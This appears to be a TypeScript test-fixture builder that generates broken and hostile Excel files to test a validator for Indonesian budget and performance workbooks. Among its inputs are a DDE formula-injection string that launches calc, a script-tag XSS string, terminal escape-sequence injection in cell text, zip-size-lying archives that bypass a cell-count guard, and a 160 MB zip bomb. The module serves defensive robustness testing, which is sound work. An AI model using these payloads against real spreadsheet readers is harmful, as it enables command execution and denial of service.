// Builds the corpus of bad workbooks: what planners really send (empty, broken, odd, huge in one direction).
// Generated at test time into a temp folder (nothing binary is committed). Run by test/reliability/corpus.test.ts;
// by hand: `npx jest test/reliability/corpus` (or import buildCorpus from a script).
import * as fs from "fs";
import * as path from "path";
import ExcelJS from "exceljs";
import JSZip from "jszip";

/** What the CLI may answer for a file: findings (exit 0/1), unreadable (exit 2), or either is acceptable. */
export type Expectation = "findings" | "unreadable" | "either";

export interface CorpusEntry {
  /** File name inside the corpus folder. */
  file: string;
  expect: Expectation;
  /** Why this file is in the corpus. */
  why: string;
  /** Sheet names the file really has (findings must point into these), when it is a workbook. */
  sheets?: string[];
}

// A small PK-style budget table whose JUMLAH is wrong on purpose (so the engine has something to say).
function budgetTable(ws: ExcelJS.Worksheet, top = 1): void {
  ws.getCell(top, 1).value = "NO";
  ws.getCell(top, 2).value = "PROGRAM / KEGIATAN / SUB KEGIATAN";
  ws.getCell(top, 3).value = "ANGGARAN";
  ws.getCell(top, 4).value = "KET";
  const items: [string, number][] = [
    ["Penyediaan Gaji dan Tunjangan ASN", 1672255000],
    ["Penyediaan Administrasi Pelaksanaan Tugas ASN", 197951250],
    ["Koordinasi dan Penyusunan Laporan Kinerja", 6241465000],
  ];
  items.forEach(([label, amount], i) => {
    ws.getCell(top + 1 + i, 1).value = i + 1;
    ws.getCell(top + 1 + i, 2).value = label;
    ws.getCell(top + 1 + i, 3).value = amount;
    ws.getCell(top + 1 + i, 3).numFmt = "#,##0";
    ws.getCell(top + 1 + i, 4).value = "APBD";
  });
  ws.getCell(top + 4, 2).value = "JUMLAH";
  ws.getCell(top + 4, 3).value = 8111671251; // items sum to 8.111.671.250: off by one rupiah
  ws.getCell(top + 4, 3).numFmt = "#,##0";
}

function indicatorHeaders(ws: ExcelJS.Worksheet, top = 1): void {
  ["NO", "SASARAN", "INDIKATOR KINERJA", "TARGET", "SATUAN"].forEach((h, i) => (ws.getCell(top, i + 1).value = h));
}

async function save(wb: ExcelJS.Workbook, dir: string, file: string): Promise<string> {
  const p = path.join(dir, file);
  await wb.xlsx.writeFile(p);
  return p;
}

function newBook(): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  wb.creator = "sakip-reliability-corpus";
  // Fixed dates so the files are reproducible.
  wb.created = new Date(Date.UTC(2024, 0, 1));
  wb.modified = new Date(Date.UTC(2024, 0, 1));
  return wb;
}

/** Names Excel accepts but that break naive code: quotes, ampersands, emoji, right-to-left text, "!" and "#". */
export const ODD_SHEET_NAMES = [
  'Rekap "PK" 2024',
  "O'Brien PK",
  "Kinerja & Anggaran",
  "📊 Capaian 🎯",
  "ميزانية الأداء",
  "תקציב",
  "PK <Sekretaris>",
  "Data!#1 %20",
];

/** Text cells that a spreadsheet (or a report writer) could mistake for formulas or markup. */
export const FORMULA_LIKE_TEXT = [
  "=SUM(A1:A3)",
  "=HYPERLINK(\"http://example.invalid\",\"klik\")",
  "=cmd|' /C calc'!A0",
  "+62 812 3456 7890",
  "-",
  "- Penyediaan Gaji",
  "@risiko",
  "<script>alert(1)</script>",
  "=1+1",
];

export async function buildCorpus(dir: string): Promise<CorpusEntry[]> {
  fs.mkdirSync(dir, { recursive: true });
  const out: CorpusEntry[] = [];

  // 1. Empty: one sheet, no cell.
  {
    const wb = newBook();
    wb.addWorksheet("Sheet1");
    await save(wb, dir, "empty.xlsx");
    out.push({ file: "empty.xlsx", expect: "findings", why: "workbook with one empty sheet", sheets: ["Sheet1"] });
  }

  // 2. Headers only: an indicator table and a budget table with no rows, a JUMLAH with nothing above it.
  {
    const wb = newBook();
    const ws = wb.addWorksheet("PK Kepala");
    indicatorHeaders(ws, 1);
    ws.getCell(4, 1).value = "NO";
    ws.getCell(4, 2).value = "PROGRAM";
    ws.getCell(4, 3).value = "ANGGARAN";
    ws.getCell(4, 4).value = "KET";
    ws.getCell(5, 2).value = "JUMLAH";
    await save(wb, dir, "headers-only.xlsx");
    out.push({ file: "headers-only.xlsx", expect: "findings", why: "headers with no data rows", sheets: ["PK Kepala"] });
  }

  // 3. Merged headers over odd areas: tall, wide, over data, far away at the sheet's last columns.
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Merged");
    ws.getCell("A1").value = "PERJANJIAN KINERJA TAHUN 2024";
    ws.mergeCells("A1:Z3"); // title merged far wider than the table
    budgetTable(ws, 5);
    ws.getCell("B11").value = "SASARAN";
    ws.mergeCells("B11:B40"); // a header merged down over 30 empty rows
    ws.getCell("C11").value = "TARGET";
    ws.mergeCells("C11:E11");
    ws.getCell("C12").value = "ANGGARAN";
    ws.mergeCells("C12:C13");
    ws.getCell("D12").value = 100;
    ws.mergeCells("D12:E14"); // a number merged over a block
    ws.getCell("XFA1").value = "KET";
    ws.mergeCells("XFA1:XFD2"); // at the last columns Excel has
    ws.getCell("A1048575").value = "JUMLAH";
    ws.mergeCells("A1048575:C1048576"); // at the last rows Excel has
    await save(wb, dir, "merged-odd.xlsx");
    out.push({ file: "merged-odd.xlsx", expect: "findings", why: "merges wider than tables, over data, at the sheet's edges", sheets: ["Merged"] });
  }

  // 4. Formulas whose cached results are errors (and one with no cached result at all).
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Pengukuran");
    ["NO", "INDIKATOR KINERJA", "TARGET", "REALISASI", "% CAPAIAN", "PAGU", "REALISASI", "SERAPAN"].forEach(
      (h, i) => (ws.getCell(1, i + 1).value = h),
    );
    const errors = ["#DIV/0!", "#REF!", "#N/A", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"];
    errors.forEach((e, i) => {
      const r = i + 2;
      ws.getCell(r, 1).value = i + 1;
      ws.getCell(r, 2).value = `Indikator ${i + 1}`;
      ws.getCell(r, 3).value = i === 0 ? 0 : 100;
      ws.getCell(r, 4).value = { formula: `#REF!*2`, result: { error: e as ExcelJS.CellErrorValue["error"] } } as ExcelJS.CellFormulaValue;
      ws.getCell(r, 5).value = { formula: `D${r}/C${r}`, result: { error: e as ExcelJS.CellErrorValue["error"] } } as ExcelJS.CellFormulaValue;
      ws.getCell(r, 6).value = 1000000;
      ws.getCell(r, 7).value = { error: e as ExcelJS.CellErrorValue["error"] };
      ws.getCell(r, 8).value = { formula: `G${r}/F${r}` } as ExcelJS.CellFormulaValue; // no cached result
    });
    ws.getCell(9, 2).value = "JUMLAH";
    ws.getCell(9, 6).value = { formula: "SUM(F2:F8)", result: { error: "#REF!" } } as ExcelJS.CellFormulaValue;
    await save(wb, dir, "formula-errors.xlsx");
    out.push({ file: "formula-errors.xlsx", expect: "findings", why: "formulas whose cached results are #DIV/0!, #REF! ...; error literals", sheets: ["Pengukuran"] });
  }

  // 5. A 32.000-character cell (Excel's limit is 32.767), in a label and in an amount column.
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Panjang");
    budgetTable(ws, 1);
    ws.getCell("B3").value = "Penyediaan ".repeat(2910).slice(0, 32000);
    ws.getCell("C4").value = "1.000.".repeat(5333).slice(0, 32000); // a "number" that never ends
    ws.getCell("E1").value = "x".repeat(32767);
    await save(wb, dir, "long-cell.xlsx");
    out.push({ file: "long-cell.xlsx", expect: "findings", why: "32.000-character label and amount, 32.767-character cell", sheets: ["Panjang"] });
  }

  // 6. Dates where amounts belong (a pasted column that Excel turned into dates).
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Anggaran");
    budgetTable(ws, 1);
    ws.getCell("C2").value = new Date(Date.UTC(2024, 2, 1));
    ws.getCell("C2").numFmt = "dd/mm/yyyy";
    ws.getCell("C3").value = new Date(Date.UTC(1900, 0, 1));
    ws.getCell("C3").numFmt = "d-mmm";
    ws.getCell("C5").value = new Date(Date.UTC(9999, 11, 31));
    ws.getCell("C5").numFmt = "yyyy-mm-dd";
    await save(wb, dir, "dates-as-amounts.xlsx");
    out.push({ file: "dates-as-amounts.xlsx", expect: "findings", why: "dates in the ANGGARAN column and as the JUMLAH", sheets: ["Anggaran"] });
  }

  // 7. A row of 5.000 columns (numbers and header-like words mixed).
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Lebar");
    const row: (string | number)[] = [];
    for (let c = 0; c < 5000; c++) row.push(c % 7 === 0 ? ["TARGET", "ANGGARAN", "JUMLAH", "NIP"][c % 4] : c * 1000);
    ws.addRow(row);
    ws.addRow(row.map((v) => (typeof v === "number" ? v + 1 : v)));
    budgetTable(ws, 4);
    await save(wb, dir, "wide-row.xlsx");
    out.push({ file: "wide-row.xlsx", expect: "findings", why: "a row of 5.000 columns", sheets: ["Lebar"] });
  }

  // 8. 250 sheets, each a small PK budget table.
  {
    const wb = newBook();
    const names: string[] = [];
    for (let i = 1; i <= 250; i++) {
      const name = `PK ${String(i).padStart(3, "0")}`;
      names.push(name);
      budgetTable(wb.addWorksheet(name), 1);
    }
    await save(wb, dir, "many-sheets.xlsx");
    out.push({ file: "many-sheets.xlsx", expect: "findings", why: "250 sheets", sheets: names });
  }

  // 9. Hidden and very hidden sheets, each holding a wrong total.
  {
    const wb = newBook();
    budgetTable(wb.addWorksheet("Terlihat"), 1);
    budgetTable(wb.addWorksheet("Tersembunyi", { state: "hidden" }), 1);
    budgetTable(wb.addWorksheet("Sangat Tersembunyi", { state: "veryHidden" }), 1);
    await save(wb, dir, "hidden-sheets.xlsx");
    out.push({ file: "hidden-sheets.xlsx", expect: "findings", why: "hidden and veryHidden sheets", sheets: ["Terlihat", "Tersembunyi", "Sangat Tersembunyi"] });
  }

  // 10. Sheet names with quotes, ampersands, emoji, right-to-left text, markup.
  {
    const wb = newBook();
    for (const name of ODD_SHEET_NAMES) budgetTable(wb.addWorksheet(name), 1);
    await save(wb, dir, "odd-sheet-names.xlsx");
    out.push({ file: "odd-sheet-names.xlsx", expect: "findings", why: "sheet names with quotes, &, emoji, RTL, <>, !#%", sheets: ODD_SHEET_NAMES });
  }

  // 11. Text that starts with =, +, -, @ (and markup) in labels, amounts and the JUMLAH row.
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Teks Formula");
    budgetTable(ws, 1);
    FORMULA_LIKE_TEXT.forEach((t, i) => {
      ws.getCell(10 + i, 2).value = t;
      ws.getCell(10 + i, 3).value = t;
    });
    ws.getCell("B2").value = FORMULA_LIKE_TEXT[0];
    ws.getCell("C3").value = "=197951250";
    ws.getCell("B5").value = "@JUMLAH";
    await save(wb, dir, "formula-like-text.xlsx");
    out.push({ file: "formula-like-text.xlsx", expect: "findings", why: "text starting with = + - @ and <script>", sheets: ["Teks Formula"] });
  }

  // 12. NIPs stored as numbers (18 digits lose their tail past Excel's 15 significant digits).
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Pegawai");
    ["NO", "NAMA", "NIP", "JABATAN"].forEach((h, i) => (ws.getCell(1, i + 1).value = h));
    const nips: (string | number)[] = [198609262015051001, 197003151994031002, "19860926 201505 1 001", 1.98609e17, -1, 0];
    nips.forEach((nip, i) => {
      ws.getCell(i + 2, 1).value = i + 1;
      ws.getCell(i + 2, 2).value = `Pegawai ${i + 1}`;
      ws.getCell(i + 2, 3).value = nip;
      ws.getCell(i + 2, 4).value = "Analis Kebijakan";
    });
    ws.getCell("C3").numFmt = "0";
    await save(wb, dir, "nip-numbers.xlsx");
    out.push({ file: "nip-numbers.xlsx", expect: "findings", why: "NIPs stored as numbers (and 0, -1)", sheets: ["Pegawai"] });
  }

  // 13. One cell at the very last address: the used range is the whole sheet (17 billion cells) but holds one value.
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Jauh");
    ws.getCell("A1").value = "ANGGARAN";
    ws.getCell("XFD1048576").value = "JUMLAH";
    await save(wb, dir, "far-cell.xlsx");
    out.push({ file: "far-cell.xlsx", expect: "findings", why: "a value at XFD1048576: sparse, must not be read as a dense grid", sheets: ["Jauh"] });
  }

  // 13b. Terminal control characters inside cell text (OOXML escapes them as _x001B_; exceljs decodes them):
  // a label that clears the screen and retitles the terminal if a text report prints it raw.
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Kendali");
    ["KODE", "URAIAN", "PAGU", "REALISASI"].forEach((h, i) => (ws.getCell(1, i + 1).value = h));
    ws.getCell("A2").value = "1.02.01.2.01.0001";
    ws.getCell("B2").value = "CTRLMARK";
    ws.getCell("C2").value = 1000000;
    ws.getCell("D2").value = 2000000; // realisasi above pagu: a finding that quotes the label
    ws.getCell("A3").value = "1.02.01.2.01.0002";
    ws.getCell("B3").value = "Penyediaan Gaji";
    ws.getCell("C3").value = 500000;
    ws.getCell("D3").value = 400000;
    const p = await save(wb, dir, "control-chars.xlsx");
    const zip = await JSZip.loadAsync(fs.readFileSync(p));
    const sst = await zip.file("xl/sharedStrings.xml")!.async("string");
    zip.file("xl/sharedStrings.xml", sst.replace("CTRLMARK", "_x001B_[2J_x001B_]0;diretas_x0007_Kegiatan_x0008__x0008_ Mutasi_x001B_[31m"));
    fs.writeFileSync(p, await zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" }));
    out.push({ file: "control-chars.xlsx", expect: "findings", why: "ESC/BEL/BS control characters in a label (terminal injection)", sheets: ["Kendali"] });
  }

  // 14. Not a workbook: text with an .xlsx name, a PNG header, zero bytes.
  fs.writeFileSync(path.join(dir, "not-a-workbook.xlsx"), "Ini bukan workbook, hanya teks biasa.\n");
  out.push({ file: "not-a-workbook.xlsx", expect: "unreadable", why: "plain text named .xlsx" });
  fs.writeFileSync(path.join(dir, "image.xlsx"), Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"));
  out.push({ file: "image.xlsx", expect: "unreadable", why: "PNG bytes named .xlsx" });
  fs.writeFileSync(path.join(dir, "zero-bytes.xlsx"), Buffer.alloc(0));
  out.push({ file: "zero-bytes.xlsx", expect: "unreadable", why: "empty file" });

  // 15. A truncated zip: the first half of a real workbook.
  {
    const full = fs.readFileSync(path.join(dir, "hidden-sheets.xlsx"));
    fs.writeFileSync(path.join(dir, "truncated.xlsx"), full.subarray(0, Math.floor(full.length / 2)));
    out.push({ file: "truncated.xlsx", expect: "unreadable", why: "first half of a real .xlsx" });
  }

  // 16. A valid zip that is not a workbook, and a workbook whose sheet XML is broken.
  {
    const zip = new JSZip();
    zip.file("readme.txt", "bukan workbook");
    fs.writeFileSync(path.join(dir, "zip-not-xlsx.xlsx"), await zip.generateAsync({ type: "nodebuffer" }));
    out.push({ file: "zip-not-xlsx.xlsx", expect: "unreadable", why: "a valid zip without any workbook part" });

    const good = await JSZip.loadAsync(fs.readFileSync(path.join(dir, "headers-only.xlsx")));
    good.file("xl/worksheets/sheet1.xml", '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>');
    fs.writeFileSync(path.join(dir, "broken-xml.xlsx"), await good.generateAsync({ type: "nodebuffer", compression: "DEFLATE" }));
    out.push({ file: "broken-xml.xlsx", expect: "either", why: "zip is fine, the sheet XML stops mid-element" });
  }

  return out;
}

/**
 * A workbook of rows x cols numbers written straight as SpreadsheetML (exceljs would take minutes for millions of
 * cells). Used by the limits test: what does the CLI say about a workbook too big to validate?
 */
export async function buildHugeWorkbook(file: string, rows: number, cols: number): Promise<void> {
  const colName = (c: number): string => {
    let s = "";
    for (let n = c + 1; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
    return s;
  };
  const letters = Array.from({ length: cols }, (_, c) => colName(c));
  // One row template with "#" where the row number goes: string building stays cheap for millions of cells.
  const template = `<row r="#">` + letters.map((l, c) => `<c r="${l}#"><v>${(c * 7) % 1000}</v></c>`).join("") + "</row>";
  const parts: string[] = new Array(rows);
  for (let r = 1; r <= rows; r++) parts[r - 1] = template.split("#").join(String(r));
  const zip = new JSZip();
  zip.file(
    "[Content_Types].xml",
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
  );
  zip.file(
    "_rels/.rels",
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
  );
  zip.file(
    "xl/workbook.xml",
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' +
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Besar" sheetId="1" r:id="rId1"/></sheets></workbook>',
  );
  zip.file(
    "xl/_rels/workbook.xml.rels",
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  );
  zip.file(
    "xl/worksheets/sheet1.xml",
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
      `<dimension ref="A1:${letters[cols - 1]}${rows}"/><sheetData>${parts.join("")}</sheetData></worksheet>`,
  );
  fs.writeFileSync(file, await zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level: 1 } }));
}

if (require.main === module) {
  const dir = process.argv[2] || path.join(require("os").tmpdir(), "sakip-corpus");
  buildCorpus(dir).then((entries) => {
    for (const e of entries) console.log(`${e.file}\t${e.expect}\t${e.why}`);
    console.log(`-> ${dir}`);
  });
}

// ---------------------------------------------------------------------------------------------------------------
// The hostile corpus: small files that made the reader expand millions of objects, hang or crash, values that made
// messages say "NaN", text that turns into formulas or reorders itself, and formats the reader must name. Each entry
// says what the CLI must answer; test/reliability/hostile.test.ts runs every one under a heap and time limit.

export interface HostileEntry extends CorpusEntry {
  /** For "unreadable": a pattern the Indonesian message must match. */
  says?: RegExp;
}

/** A zip written by hand, so a test can lie in its headers, name entries with "/" or append bytes after the end. */
export interface RawZipEntry {
  name: string;
  data: Buffer;
  /** Store (0) or deflate (8, default). */
  method?: 0 | 8;
  /** Declared sizes instead of the true ones (both headers). */
  declaredCompressed?: number;
  declaredUncompressed?: number;
}

export function rawZip(entries: RawZipEntry[], trailing?: Buffer): Buffer {
  const zlib = require("zlib") as typeof import("zlib");
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const method = e.method ?? 8;
    const body = method === 8 ? zlib.deflateRawSync(e.data) : e.data;
    const crc = zlib.crc32(e.data) >>> 0;
    const name = Buffer.from(e.name, "utf8");
    const csize = e.declaredCompressed ?? body.length;
    const usize = e.declaredUncompressed ?? e.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(csize >>> 0, 18);
    local.writeUInt32LE(usize >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(csize >>> 0, 20);
    central.writeUInt32LE(usize >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end, ...(trailing ? [trailing] : [])]);
}

const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const NS_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const NS_REL = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';

/** The parts of a one-sheet workbook around a given sheet XML. */
export function minimalWorkbookParts(sheetXml: string, sheetName = "Besar", sheetPath = "xl/worksheets/sheet1.xml"): RawZipEntry[] {
  const b = (s: string) => Buffer.from(s, "utf8");
  return [
    {
      name: "[Content_Types].xml",
      data: b(
        `${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
      ),
    },
    {
      name: "_rels/.rels",
      data: b(`${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    },
    { name: "xl/workbook.xml", data: b(`${XML_HEAD}<workbook ${NS_MAIN} ${NS_REL}><sheets><sheet name="${sheetName}" sheetId="1" r:id="rId1"/></sheets></workbook>`) },
    {
      name: "xl/_rels/workbook.xml.rels",
      data: b(`${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`),
    },
    { name: sheetPath, data: b(sheetXml) },
  ];
}

/** Sheet XML of rows x cols numbers, each cell opened with `open` ("<c " or "<c\n"). */
function numbersSheet(rows: number, cols: number, open: string): string {
  const colName = (c: number): string => {
    let s = "";
    for (let n = c + 1; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
    return s;
  };
  const letters = Array.from({ length: cols }, (_, c) => colName(c));
  const template = `<row r="#">` + letters.map((l, c) => `${open}r="${l}#"><v>${c}</v></c>`).join("") + "</row>";
  const parts: string[] = new Array(rows);
  for (let r = 1; r <= rows; r++) parts[r - 1] = template.split("#").join(String(r));
  return `${XML_HEAD}<worksheet ${NS_MAIN}><sheetData>${parts.join("")}</sheetData></worksheet>`;
}

/** Opens an exceljs-written workbook, edits its sheet and workbook XML as text, writes it back. */
async function patchXml(file: string, edit: { sheet?: (xml: string) => string; workbook?: (xml: string) => string }): Promise<void> {
  const zip = await JSZip.loadAsync(fs.readFileSync(file));
  if (edit.sheet) zip.file("xl/worksheets/sheet1.xml", edit.sheet(await zip.file("xl/worksheets/sheet1.xml")!.async("string")));
  if (edit.workbook) zip.file("xl/workbook.xml", edit.workbook(await zip.file("xl/workbook.xml")!.async("string")));
  fs.writeFileSync(file, await zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" }));
}

/** Inserts XML right after </sheetData> (where exceljs and Excel put merges and validations). */
const afterSheetData = (extra: string) => (xml: string) => xml.replace("</sheetData>", "</sheetData>" + extra);

/** Characters that reorder or hide text (bidi overrides and isolates, separators, zero-width, C1 controls). */
export const INVISIBLE_SAMPLES = ["\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u2028", "\u2029", "\u200b", "\u200d", "\ufeff", "\u0085", "\u009b", "\u009d"];

/** A budget-realisation table: pagu and realisasi per activity (SAKIP-BUDGET-001 compares them). */
function paguTable(ws: ExcelJS.Worksheet, rows: [string, string, number | string, number | string][]): void {
  ["KODE", "URAIAN", "PAGU", "REALISASI"].forEach((h, i) => (ws.getCell(1, i + 1).value = h));
  rows.forEach(([code, label, pagu, real], i) => {
    ws.getCell(i + 2, 1).value = code;
    ws.getCell(i + 2, 2).value = label;
    ws.getCell(i + 2, 3).value = pagu;
    ws.getCell(i + 2, 4).value = real;
  });
}

export const BUDGET_AOA: (string | number | null)[][] = [
  ["NO", "PROGRAM / KEGIATAN / SUB KEGIATAN", "ANGGARAN", "KET"],
  [1, "Penyediaan Gaji dan Tunjangan ASN", 1672255000, "APBD"],
  [2, "Penyediaan Administrasi Pelaksanaan Tugas ASN", 197951250, "APBD"],
  [3, "Koordinasi dan Penyusunan Laporan Kinerja", 6241465000, "APBD"],
  [null, "JUMLAH", 8111671251, null],
];

export async function buildHostileCorpus(dir: string): Promise<HostileEntry[]> {
  fs.mkdirSync(dir, { recursive: true });
  const out: HostileEntry[] = [];
  const budgetBook = async (file: string, sheet = "PK"): Promise<string> => {
    const wb = newBook();
    budgetTable(wb.addWorksheet(sheet), 1);
    return save(wb, dir, file);
  };

  // Structures exceljs expanded cell by cell: each must be read as a rectangle (or not at all).
  const cols10 = "ABCDEFGHIJ".split("").map((c) => `${c}1:${c}1048576`).join(" ");
  const dv = (sqref: string) =>
    `<dataValidations count="1"><dataValidation type="list" allowBlank="1" showErrorMessage="1" sqref="${sqref}"><formula1>"APBD,APBN,DAK"</formula1></dataValidation></dataValidations>`;
  await patchXml(await budgetBook("dv-whole-columns.xlsx"), { sheet: afterSheetData(dv(cols10)) });
  out.push({ file: "dv-whole-columns.xlsx", expect: "findings", why: "a dropdown on 10 whole columns (what a template carries)", sheets: ["PK"] });
  await patchXml(await budgetBook("dv-whole-sheet.xlsx"), { sheet: afterSheetData(dv("A1:XFD1048576")) });
  out.push({ file: "dv-whole-sheet.xlsx", expect: "findings", why: "a validation over the whole sheet", sheets: ["PK"] });
  await patchXml(await budgetBook("names-large.xlsx"), {
    workbook: (xml) =>
      xml.replace(
        /<\/sheets>/,
        '</sheets><definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">PK!$A$1:$IV$65536</definedName><definedName name="SemuaKolom">PK!$A:$XFD</definedName><definedName name="SemuaBaris">PK!$1:$1048576</definedName></definedNames>',
      ),
  });
  out.push({ file: "names-large.xlsx", expect: "findings", why: "Print_Area $A$1:$IV$65536 (left by an .xls conversion) and whole-sheet names", sheets: ["PK"] });
  await patchXml(await budgetBook("merge-whole-sheet.xlsx"), { sheet: afterSheetData('<mergeCells count="1"><mergeCell ref="F1:XFD1048576"/></mergeCells>') });
  out.push({ file: "merge-whole-sheet.xlsx", expect: "findings", why: "a merge F1:XFD1048576", sheets: ["PK"] });
  await patchXml(await budgetBook("cols-huge.xlsx"), {
    sheet: (xml) => xml.replace(/<cols>[\s\S]*?<\/cols>/, "").replace("<sheetData>", '<cols><col min="1" max="100000000" width="12" customWidth="1"/></cols><sheetData>'),
  });
  out.push({ file: "cols-huge.xlsx", expect: "findings", why: '<col min="1" max="100000000">', sheets: ["PK"] });
  await patchXml(await budgetBook("far-rows.xlsx"), {
    sheet: (xml) =>
      xml.replace(
        "</sheetData>",
        '<row r="1000000000"><c r="A1000000000"><v>1</v></c></row><row r="4294967295"><c r="B4294967295" t="inlineStr"><is><t>jauh</t></is></c></row></sheetData>',
      ),
  });
  out.push({ file: "far-rows.xlsx", expect: "findings", why: 'rows r="1000000000" and r="4294967295" (outside the grid)', sheets: ["PK"] });

  // The cell guard's bypasses: 1.600.000 cells each, hidden from a naive count.
  const big = Buffer.from(numbersSheet(16_000, 100, "<c\n"), "utf8");
  const plainBig = Buffer.from(big.toString("latin1").replace(/<c\n/g, "<c "), "latin1");
  const tooBig = /terlalu besar/;
  fs.writeFileSync(path.join(dir, "bypass-newline.xlsx"), rawZip(minimalWorkbookParts("").slice(0, 4).concat([{ name: "xl/worksheets/sheet1.xml", data: big }])));
  out.push({ file: "bypass-newline.xlsx", expect: "unreadable", why: "1.600.000 cells written <c\\nr=…>", says: tooBig });
  fs.writeFileSync(path.join(dir, "bypass-leading-slash.xlsx"), rawZip(minimalWorkbookParts("").slice(0, 4).concat([{ name: "/xl/worksheets/sheet1.xml", data: plainBig }])));
  out.push({ file: "bypass-leading-slash.xlsx", expect: "unreadable", why: "1.600.000 cells in an entry named /xl/worksheets/sheet1.xml", says: tooBig });
  fs.writeFileSync(
    path.join(dir, "bypass-trailing-bytes.xlsx"),
    rawZip(minimalWorkbookParts("").slice(0, 4).concat([{ name: "xl/worksheets/sheet1.xml", data: plainBig }]), Buffer.alloc(100 * 1024, 0x41)),
  );
  out.push({ file: "bypass-trailing-bytes.xlsx", expect: "unreadable", why: "1.600.000 cells, 100 KB of bytes after the end record", says: tooBig });
  fs.writeFileSync(
    path.join(dir, "bypass-lying-sizes.xlsx"),
    rawZip(minimalWorkbookParts("").slice(0, 4).concat([{ name: "xl/worksheets/sheet1.xml", data: plainBig, declaredCompressed: 100, declaredUncompressed: 100 }])),
  );
  out.push({ file: "bypass-lying-sizes.xlsx", expect: "unreadable", why: "1.600.000 cells behind headers that declare 100 bytes", says: tooBig });
  {
    // An honest bomb: 160 MB of spaces inside the sheet XML, about 160 KB compressed.
    const pad = Buffer.alloc(160 * 1024 * 1024, 0x20);
    const head = Buffer.from(`${XML_HEAD}<worksheet ${NS_MAIN}><sheetData><row r="1"><c r="A1"><v>1</v></c></row>`);
    const tail = Buffer.from("</sheetData></worksheet>");
    fs.writeFileSync(path.join(dir, "zip-bomb.xlsx"), rawZip(minimalWorkbookParts("").slice(0, 4).concat([{ name: "xl/worksheets/sheet1.xml", data: Buffer.concat([head, pad, tail]) }])));
